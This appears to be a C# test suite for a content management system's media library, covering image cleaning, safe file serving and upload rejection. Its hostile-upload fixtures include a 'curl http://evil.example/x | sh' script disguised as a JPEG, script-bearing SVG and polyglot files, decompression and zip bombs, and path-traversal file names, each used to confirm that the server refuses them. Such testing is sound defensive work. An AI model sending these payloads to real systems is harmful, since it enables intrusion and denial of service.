using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Cms.Api.Features.Articles;
using Cms.Api.Features.Media;
using Cms.Api.Http;
using SkiaSharp;

namespace Cms.Tests.Api;

/// <summary>The media library: uploads decided by their bytes, images cleaned and resized, files served safely, in-use items kept.</summary>
[TestFixture]
public sealed class MediaTests
{
    private static string Root => MediaOptions.DefaultRoot(App.DbPath);

    private static async Task<MediaItem> UploadedAsync(HttpResponseMessage res, HttpStatusCode status = HttpStatusCode.Created)
    {
        var text = await res.Content.ReadAsStringAsync();
        Assert.That(res.StatusCode, Is.EqualTo(status), text);
        return JsonSerializer.Deserialize<MediaItem>(text, ApiJson.Options)!;
    }

    /// <summary>The files in the store, the in-progress folder aside.</summary>
    private static string[] StoredFiles() =>
        Directory.Exists(Root) ? Directory.GetFiles(Root, "*", SearchOption.AllDirectories).Where(f => !f.Contains(".incoming", StringComparison.Ordinal)).Order().ToArray() : [];

    /// <summary>A multipart body written by hand, so a file name can carry what HttpClient would refuse to send.</summary>
    private static HttpContent RawForm(byte[] file, string fileName)
    {
        const string boundary = "----cms-test-boundary";
        using var ms = new MemoryStream();
        ms.Write(Encoding.UTF8.GetBytes($"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fileName}\"\r\nContent-Type: image/jpeg\r\n\r\n"));
        ms.Write(file);
        ms.Write(Encoding.UTF8.GetBytes($"\r\n--{boundary}--\r\n"));
        var content = new ByteArrayContent(ms.ToArray());
        content.Headers.TryAddWithoutValidation("Content-Type", $"multipart/form-data; boundary={boundary}");
        return content;
    }

    /// <summary>A JPEG whose EXIF says "turn 90° clockwise to view" and carries a GPS position, as a phone writes it.</summary>
    private static byte[] PhoneJpeg(int width, int height)
    {
        var jpeg = Given.Image(width, height);
        using var tiff = new MemoryStream();
        void U16(int v) { tiff.WriteByte((byte)(v >> 8)); tiff.WriteByte((byte)v); }
        void U32(int v) { U16(v >> 16); U16(v & 0xFFFF); }
        tiff.Write("MM"u8); U16(42); U32(8);
        U16(2);                                   // IFD0: orientation and the GPS IFD's offset
        U16(0x0112); U16(3); U32(1); U16(6); U16(0);
        U16(0x8825); U16(4); U32(1); U32(38);
        U32(0);
        U16(2);                                   // GPS IFD at 38: latitude ref N, latitude 39/1 54/1 0/1
        U16(0x0001); U16(2); U32(2); tiff.Write("N\0\0\0"u8);
        U16(0x0002); U16(5); U32(3); U32(38 + 2 + 24 + 4);
        U32(0);
        U32(39); U32(1); U32(54); U32(1); U32(0); U32(1);
        var exif = "Exif\0\0"u8.ToArray().Concat(tiff.ToArray()).ToArray();
        var app1 = new byte[] { 0xFF, 0xE1, (byte)((exif.Length + 2) >> 8), (byte)(exif.Length + 2) }.Concat(exif);
        return jpeg[..2].Concat(app1).Concat(jpeg[2..]).ToArray();
    }

    private static bool Contains(byte[] haystack, byte[] needle) => haystack.AsSpan().IndexOf(needle) >= 0;

    [Test]
    public async Task A_phone_photo_is_stored_upright_without_exif_with_resized_copies_and_served_for_a_year()
    {
        var photo = PhoneJpeg(1600, 900);
        var item = await UploadedAsync(await Given.UploadAsync(App.Author, photo, "会场照片（一）.jpg", "论坛会场"));

        Assert.That(item.Kind, Is.EqualTo("image"));
        Assert.That(item.Type, Is.EqualTo("jpeg"));
        Assert.That(item.FileName, Is.EqualTo("会场照片（一）.jpg"), "the Chinese name round-trips byte for byte");
        Assert.That((item.Width, item.Height), Is.EqualTo((900, 1600)), "turned upright by its EXIF orientation");
        Assert.That(item.Url, Does.Match("^/media/[0-9a-f]{32}\\.jpg$"));
        Assert.That(item.Variants.Select(v => v.Width), Is.EqualTo(new[] { 320, 640 }));
        Assert.That(item.SrcSet, Does.Contain(" 320w").And.Contain(" 640w").And.EndWith(" 900w"));

        var served = await App.Client.GetAsync(item.Url);
        var bytes = await served.Content.ReadAsByteArrayAsync();
        Assert.That(served.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        Assert.That(served.Content.Headers.ContentType!.MediaType, Is.EqualTo("image/jpeg"));
        Assert.That(served.Headers.GetValues("X-Content-Type-Options").Single(), Is.EqualTo("nosniff"));
        Assert.That(served.Headers.GetValues("Content-Security-Policy").Single(), Does.Contain("default-src 'none'").And.Contain("sandbox"));
        Assert.That(served.Headers.CacheControl!.ToString(), Does.Contain("max-age=31536000").And.Contain("immutable"));
        Assert.That(served.Content.Headers.ContentDisposition, Is.Null, "images are shown, not downloaded");
        Assert.That(Contains(bytes, "Exif\0\0"u8.ToArray()), Is.False, "no EXIF left");
        Assert.That(Contains(photo, "Exif\0\0"u8.ToArray()), Is.True);
        using (var codec = SKCodec.Create(new MemoryStream(bytes)))
            Assert.That((codec.Info.Width, codec.Info.Height, codec.EncodedOrigin), Is.EqualTo((900, 1600, SKEncodedOrigin.TopLeft)));
        foreach (var v in item.Variants)
        {
            var copy = await App.Client.GetByteArrayAsync(v.Url);
            using var codec = SKCodec.Create(new MemoryStream(copy));
            Assert.That(codec.Info.Width, Is.EqualTo(v.Width));
        }

        var again = await UploadedAsync(await Given.UploadAsync(App.Editor, photo, "another name.jpg"), HttpStatusCode.OK);
        Assert.That(again.Id, Is.EqualTo(item.Id), "the same file is stored once");
        Assert.That(StoredFiles().Count(f => f.Contains(item.Url[7..39], StringComparison.Ordinal)), Is.EqualTo(3));
    }

    [Test]
    public async Task An_attachment_downloads_under_its_Chinese_name_and_answers_HEAD_and_ranges()
    {
        var pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n% test " + Guid.NewGuid() + "\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
        var item = await UploadedAsync(await Given.UploadAsync(App.Author, pdf, "2026年招商推介会议程.pdf"));
        Assert.That((item.Kind, item.Type, item.Mime, item.Size), Is.EqualTo(("attachment", "pdf", "application/pdf", (long)pdf.Length)));

        var get = await App.Client.GetAsync(item.Url);
        Assert.That(await get.Content.ReadAsByteArrayAsync(), Is.EqualTo(pdf));
        var disposition = get.Content.Headers.ContentDisposition!;
        Assert.That(disposition.DispositionType, Is.EqualTo("attachment"));
        Assert.That(get.Content.Headers.GetValues("Content-Disposition").Single(),
            Does.Contain("filename*=UTF-8''2026%E5%B9%B4%E6%8B%9B%E5%95%86%E6%8E%A8%E4%BB%8B%E4%BC%9A%E8%AE%AE%E7%A8%8B.pdf"));

        var head = await App.Client.SendAsync(new HttpRequestMessage(HttpMethod.Head, item.Url));
        Assert.That(head.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        Assert.That(head.Content.Headers.ContentLength, Is.EqualTo(pdf.Length));
        Assert.That(await head.Content.ReadAsByteArrayAsync(), Is.Empty);

        var range = new HttpRequestMessage(HttpMethod.Get, item.Url);
        range.Headers.Range = new System.Net.Http.Headers.RangeHeaderValue(0, 7);
        var part = await App.Client.SendAsync(range);
        Assert.That(part.StatusCode, Is.EqualTo(HttpStatusCode.PartialContent));
        Assert.That(Encoding.ASCII.GetString(await part.Content.ReadAsByteArrayAsync()), Is.EqualTo("%PDF-1.4"));
        Assert.That(part.Content.Headers.ContentRange!.ToString(), Is.EqualTo($"bytes 0-7/{pdf.Length}"));

        Assert.That((await App.Client.GetAsync(item.Url.Replace(".pdf", ".jpg"))).StatusCode, Is.EqualTo(HttpStatusCode.NotFound));
        Assert.That((await App.Client.GetAsync(item.Url.Replace(".pdf", "-320.pdf"))).StatusCode, Is.EqualTo(HttpStatusCode.NotFound));
        Assert.That((await App.Client.GetAsync("/media/..%2F..%2Fetc%2Fpasswd")).StatusCode, Is.EqualTo(HttpStatusCode.NotFound));
    }

    private static byte[] Polyglot()
    {
        var jpeg = Given.Image(64, 64);
        var html = Encoding.ASCII.GetBytes("<html><body><script>alert(document.domain)</script></body></html>");
        var com = new byte[] { 0xFF, 0xFE, (byte)((html.Length + 2) >> 8), (byte)(html.Length + 2) }.Concat(html);
        return jpeg[..2].Concat(com).Concat(jpeg[2..]).ToArray();
    }

    private static byte[] HugePng()
    {
        static byte[] Chunk(string type, byte[] data)
        {
            var body = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
            var crc = Crc32(body);
            return new[] { (byte)(data.Length >> 24), (byte)(data.Length >> 16), (byte)(data.Length >> 8), (byte)data.Length }
                .Concat(body).Concat(new[] { (byte)(crc >> 24), (byte)(crc >> 16), (byte)(crc >> 8), (byte)crc }).ToArray();
        }
        var ihdr = new byte[] { 0, 0, 0xC3, 0x50, 0, 0, 0xC3, 0x50, 8, 0, 0, 0, 0 };   // 50,000 × 50,000, 8-bit grey
        using var idat = new MemoryStream();
        using (var z = new ZLibStream(idat, CompressionLevel.SmallestSize, leaveOpen: true))
            z.Write(new byte[50_001 * 16]);
        return new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }
            .Concat(Chunk("IHDR", ihdr)).Concat(Chunk("IDAT", idat.ToArray())).Concat(Chunk("IEND", [])).ToArray();
    }

    private static uint Crc32(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
        }
        return ~crc;
    }

    private static byte[] ZipBomb()
    {
        using var ms = new MemoryStream();
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("报名表.txt", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 64; i++)
                entry.Write(zeros);
        }
        return ms.ToArray();
    }

    private static IEnumerable<TestCaseData> Hostile()
    {
        yield return new TestCaseData("#!/bin/sh\ncurl http://evil.example/x | sh\n"u8.ToArray(), "照片.jpg", 415).SetName("a script renamed .jpg");
        yield return new TestCaseData(Polyglot(), "poly.jpg", 422).SetName("a JPEG that is also an HTML page");
        yield return new TestCaseData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"u8.ToArray(), "logo.svg", 415).SetName("an SVG with script");
        yield return new TestCaseData("<!doctype html><html><script>alert(1)</script></html>"u8.ToArray(), "page.html", 415).SetName("an HTML page");
        yield return new TestCaseData(HugePng(), "huge.png", 422).SetName("a 50,000 x 50,000 PNG");
        yield return new TestCaseData(ZipBomb(), "材料.zip", 422).SetName("a zip bomb declared as .zip");
        yield return new TestCaseData(Given.Image(32, 32), "../../etc/cron.d/x.jpg", 400).SetName("path traversal in the file name");
        yield return new TestCaseData(Given.Image(32, 32), "..\\..\\windows\\x.jpg", 400).SetName("a Windows path in the file name");
        yield return new TestCaseData(Given.Image(32, 32), "a\u0001b.jpg", 400).SetName("a control character in the file name");
        yield return new TestCaseData(Given.Image(32, 32), "\u202Egpj.exe", 400).SetName("a right-to-left override in the file name");
        yield return new TestCaseData(Array.Empty<byte>(), "empty.jpg", 400).SetName("a 0-byte file");
        yield return new TestCaseData(new byte[] { 0xFF, 0xD8, 0xFF }.Concat(new byte[10 * 1024 * 1024]).ToArray(), "big.jpg", 413).SetName("an image above its size limit");
        yield return new TestCaseData(new byte[] { 0xFF, 0xD8, 0xFF, 0xE0, 0, 0 }.Concat(new byte[100]).ToArray(), "broken.jpg", 415).SetName("a JPEG that is no image");
        yield return new TestCaseData(new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.Concat(new byte[600]).ToArray(), "macro.exe", 415).SetName("an OLE file not named .doc, .xls or .ppt");
    }

    [TestCaseSource(nameof(Hostile))]
    public async Task A_hostile_upload_is_a_clear_4xx_and_leaves_nothing_behind(byte[] bytes, string fileName, int status)
    {
        var rows = Rows.Count();
        var files = StoredFiles();
        var res = await App.Author.PostAsync("/api/v1/admin/media", RawForm(bytes, fileName));
        var problem = await Problem.AssertAsync(res, (HttpStatusCode)status, "file");
        Assert.That(problem.Detail, Is.Not.Empty);
        Assert.That(Rows.Count(), Is.EqualTo(rows), "nothing written");
        Assert.That(StoredFiles(), Is.EqualTo(files), "no file stored");
        Assert.That(Directory.Exists(Path.Combine(Root, ".incoming")) ? Directory.GetFiles(Path.Combine(Root, ".incoming")) : [], Is.Empty);
    }

    [Test]
    public async Task A_form_without_a_file_with_unknown_fields_or_as_JSON_is_refused()
    {
        var noFile = new MultipartFormDataContent { { new StringContent("替代文字"), "alt" } };
        await Problem.AssertAsync(await App.Author.PostAsync("/api/v1/admin/media", noFile), HttpStatusCode.BadRequest, "file");
        var extra = new MultipartFormDataContent { { new ByteArrayContent(Given.Image(16, 16)), "file", "a.jpg" }, { new StringContent("1"), "isPublic" } };
        await Problem.AssertAsync(await App.Author.PostAsync("/api/v1/admin/media", extra), HttpStatusCode.BadRequest, "isPublic");
        var json = await App.Author.PostAsJsonAsync("/api/v1/admin/media", new { url = "http://evil.example/x.jpg" });
        Assert.That(json.StatusCode, Is.EqualTo(HttpStatusCode.UnsupportedMediaType));
        Assert.That((await App.Client.PostAsync("/api/v1/admin/media", new MultipartFormDataContent())).StatusCode, Is.EqualTo(HttpStatusCode.Unauthorized));
    }

    [Test]
    public async Task An_item_in_use_cannot_be_deleted_and_a_published_article_needs_its_alt_text()
    {
        var image = await UploadedAsync(await Given.UploadAsync(App.Editor, Given.Image(1400, 700, SKEncodedImageFormat.Png), "图表.png"));
        Assert.That(image.Alt, Is.Empty);
        var body = Given.ArticleBody(title: "媒体库：使用中的图片") is var b
            ? JsonSerializer.SerializeToNode(b, ApiJson.Options)!.AsObject() : null!;
        body["bodyHtml"] = $"<p>图表如下。</p><p><img src=\"{image.Url}\" srcset=\"http://evil.example/x.jpg 1w\"></p>";
        var created = await App.Editor.PostAsync("/api/v1/admin/articles", new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"));
        var article = (await created.Content.ReadFromJsonAsync<AdminArticle>(ApiJson.Options))!;
        Assert.That(created.StatusCode, Is.EqualTo(HttpStatusCode.Created));
        Assert.That(article.BodyHtml, Does.Contain($"width=\"1400\"").And.Contain("height=\"700\"").And.Contain($"{image.Url[..^4]}-640.png 640w")
            .And.Not.Contain("evil.example"), "the library's size and copies, never a srcset sent in");

        var publish = await App.Editor.PostAsync($"/api/v1/admin/articles/{article.Id}/publish", null);
        var problem = await Problem.AssertAsync(publish, HttpStatusCode.Conflict, "bodyHtml");
        Assert.That(problem.Detail, Does.Contain(image.Url[7..]).And.Contain("alt"));

        var get = await App.Editor.GetAsync($"/api/v1/admin/media/{image.Id}");
        var item = (await get.Content.ReadFromJsonAsync<MediaItem>(ApiJson.Options))!;
        Assert.That(item.UsedBy.Select(u => (u.Entity, u.Id)), Is.EqualTo(new[] { ("article", article.Id) }));
        var put = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/admin/media/{image.Id}")
        {
            Content = Given.JsonContent(new { alt = "2026年一季度实际使用外资图表", caption = "图表" }),
        };
        put.Headers.TryAddWithoutValidation("If-Match", get.Headers.ETag!.Tag);
        var updated = await App.Author.SendAsync(put);
        Assert.That(updated.StatusCode, Is.EqualTo(HttpStatusCode.OK), await updated.Content.ReadAsStringAsync());

        // the alt text comes from the library when the article is saved again
        var edit = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/admin/articles/{article.Id}") { Content = new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json") };
        edit.Headers.TryAddWithoutValidation("If-Match", IfMatch.ETag(article.Version));
        var saved = await App.Editor.SendAsync(edit);
        Assert.That(saved.StatusCode, Is.EqualTo(HttpStatusCode.OK), await saved.Content.ReadAsStringAsync());
        Assert.That((await saved.Content.ReadFromJsonAsync<AdminArticle>(ApiJson.Options))!.BodyHtml, Does.Contain("alt=\"2026年一季度实际使用外资图表\""));
        Assert.That((await App.Editor.PostAsync($"/api/v1/admin/articles/{article.Id}/publish", null)).StatusCode, Is.EqualTo(HttpStatusCode.OK));

        var refreshed = await App.Editor.GetAsync($"/api/v1/admin/media/{image.Id}");
        var del = new HttpRequestMessage(HttpMethod.Delete, $"/api/v1/admin/media/{image.Id}");
        del.Headers.TryAddWithoutValidation("If-Match", refreshed.Headers.ETag!.Tag);
        var refused = await App.Editor.SendAsync(del);
        await Problem.AssertAsync(refused, HttpStatusCode.Conflict, "id");
        Assert.That((await App.Client.GetAsync(image.Url)).StatusCode, Is.EqualTo(HttpStatusCode.OK));

        // once no content uses it, it goes, with its files
        Assert.That((await App.Editor.PostAsync($"/api/v1/admin/articles/{article.Id}/offline", null)).StatusCode, Is.EqualTo(HttpStatusCode.OK));
        var current = await App.Editor.GetAsync($"/api/v1/admin/articles/{article.Id}");
        body["bodyHtml"] = "<p>图表已删除。</p>";
        var clear = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/admin/articles/{article.Id}") { Content = new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json") };
        clear.Headers.TryAddWithoutValidation("If-Match", current.Headers.ETag!.Tag);
        Assert.That((await App.Editor.SendAsync(clear)).StatusCode, Is.EqualTo(HttpStatusCode.OK));
        var del2 = new HttpRequestMessage(HttpMethod.Delete, $"/api/v1/admin/media/{image.Id}");
        del2.Headers.TryAddWithoutValidation("If-Match", refreshed.Headers.ETag!.Tag);
        Assert.That((await App.Editor.SendAsync(del2)).StatusCode, Is.EqualTo(HttpStatusCode.NoContent));
        Assert.That((await App.Client.GetAsync(image.Url)).StatusCode, Is.EqualTo(HttpStatusCode.NotFound));
        Assert.That(StoredFiles().Where(f => f.Contains(image.Url[7..39], StringComparison.Ordinal)), Is.Empty);
    }

    [Test]
    public async Task The_demo_uses_real_uploaded_files_in_the_focus_item_the_notice_feeds_and_sync()
    {
        var focus = JsonDocument.Parse(await App.Client.GetStringAsync("/api/v1/focus-items")).RootElement[0];
        var image = focus.GetProperty("image").GetProperty("url").GetString()!;
        Assert.That(image, Does.Match("^/media/[0-9a-f]{32}\\.jpg$"));
        var served = await App.Client.GetAsync(image);
        Assert.That(served.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        using (var codec = SKCodec.Create(new MemoryStream(await served.Content.ReadAsByteArrayAsync())))
            Assert.That((codec.Info.Width, codec.Info.Height), Is.EqualTo((974, 620)));

        var notice = JsonDocument.Parse(await App.Client.GetStringAsync("/api/v1/articles/2021-investment-training-notice")).RootElement;
        var file = notice.GetProperty("attachments")[0];
        Assert.That(file.GetProperty("name").GetString(), Is.EqualTo("2021年投资促进业务培训班报名回执.pdf"));
        var pdf = await App.Client.GetAsync(file.GetProperty("url").GetString());
        Assert.That(pdf.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        Assert.That(Encoding.ASCII.GetString((await pdf.Content.ReadAsByteArrayAsync())[..5]), Is.EqualTo("%PDF-"));
        Assert.That(file.GetProperty("size").GetInt64(), Is.EqualTo(pdf.Content.Headers.ContentLength));

        var rss = await App.Client.GetStringAsync("/feeds/tzgg/rss.xml");
        Assert.That(rss, Does.Contain($"<enclosure url=\"https://www.cipainvest.org.cn{file.GetProperty("url").GetString()}\"")
            .And.Contain($"length=\"{pdf.Content.Headers.ContentLength}\"").And.Contain("type=\"application/pdf\""));
        var atom = await App.Client.GetStringAsync("/feeds/tzgg/atom.xml");
        Assert.That(atom, Does.Contain("rel=\"enclosure\""));
        var json = JsonDocument.Parse(await App.Client.GetStringAsync("/feeds/tzgg/feed.json")).RootElement;
        var attached = json.GetProperty("items").EnumerateArray().Single(i => i.TryGetProperty("attachments", out _)).GetProperty("attachments")[0];
        Assert.That(attached.GetProperty("title").GetString(), Is.EqualTo("2021年投资促进业务培训班报名回执.pdf"));
        Assert.That(attached.GetProperty("mime_type").GetString(), Is.EqualTo("application/pdf"));

        var sync = JsonDocument.Parse(await App.Client.GetStringAsync("/api/v1/sync?limit=500")).RootElement;
        var media = sync.GetProperty("items").EnumerateArray().Where(i => i.GetProperty("entity").GetString() == "media").ToList();
        Assert.That(media.Select(m => m.GetProperty("data").GetProperty("url").GetString()), Has.Member(image).And.Member(file.GetProperty("url").GetString()));
    }

    [Test]
    public async Task An_upload_cut_off_midway_stores_nothing()
    {
        var db = Path.Combine(Path.GetTempPath(), $"cms-cut-{Guid.NewGuid():N}.db");
        using var factory = new CmsFactory(db);
        var baseUrl = factory.StartOnLoopback();
        using var admin = new HttpClient { BaseAddress = new Uri(baseUrl) };
        admin.DefaultRequestHeaders.Add("X-Api-Key", App.AdminKey);
        var root = MediaOptions.DefaultRoot(db);
        var before = Directory.GetFiles(root, "*", SearchOption.AllDirectories).Length;
        var count = JsonDocument.Parse(await admin.GetStringAsync("/api/v1/admin/media")).RootElement.GetProperty("page").GetProperty("totalItems").GetInt64();

        var uri = new Uri(baseUrl);
        using (var tcp = new TcpClient())
        {
            await tcp.ConnectAsync(uri.Host, uri.Port);
            var stream = tcp.GetStream();
            var head = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"半截.jpg\"\r\n\r\n";
            var headBytes = Encoding.UTF8.GetBytes(head);
            var request = $"POST /api/v1/admin/media HTTP/1.1\r\nHost: {uri.Authority}\r\nX-Api-Key: {App.AdminKey}\r\n" +
                $"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {headBytes.Length + 2_000_000}\r\n\r\n";
            await stream.WriteAsync(Encoding.ASCII.GetBytes(request));
            await stream.WriteAsync(headBytes);
            await stream.WriteAsync(Given.Image(600, 400).Concat(new byte[300_000]).ToArray());
            await stream.FlushAsync();
            await Task.Delay(300);
        }   // the connection closes with most of the promised body unsent

        var incoming = Path.Combine(root, ".incoming");
        for (var i = 0; i < 50 && Directory.Exists(incoming) && Directory.GetFiles(incoming).Length > 0; i++)
            await Task.Delay(100);
        Assert.That(Directory.Exists(incoming) ? Directory.GetFiles(incoming) : [], Is.Empty, "the partial upload was removed");
        Assert.That(Directory.GetFiles(root, "*", SearchOption.AllDirectories), Has.Length.EqualTo(before));
        Assert.That(JsonDocument.Parse(await admin.GetStringAsync("/api/v1/admin/media")).RootElement.GetProperty("page").GetProperty("totalItems").GetInt64(), Is.EqualTo(count));
        // and the next upload goes through
        Assert.That((await Given.UploadAsync(admin, Given.Image(64, 64), "完整.jpg")).StatusCode, Is.EqualTo(HttpStatusCode.Created));

        factory.Dispose();
        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        foreach (var f in new[] { db, db + "-wal", db + "-shm" })
            File.Delete(f);
        Directory.Delete(root, recursive: true);
    }
}
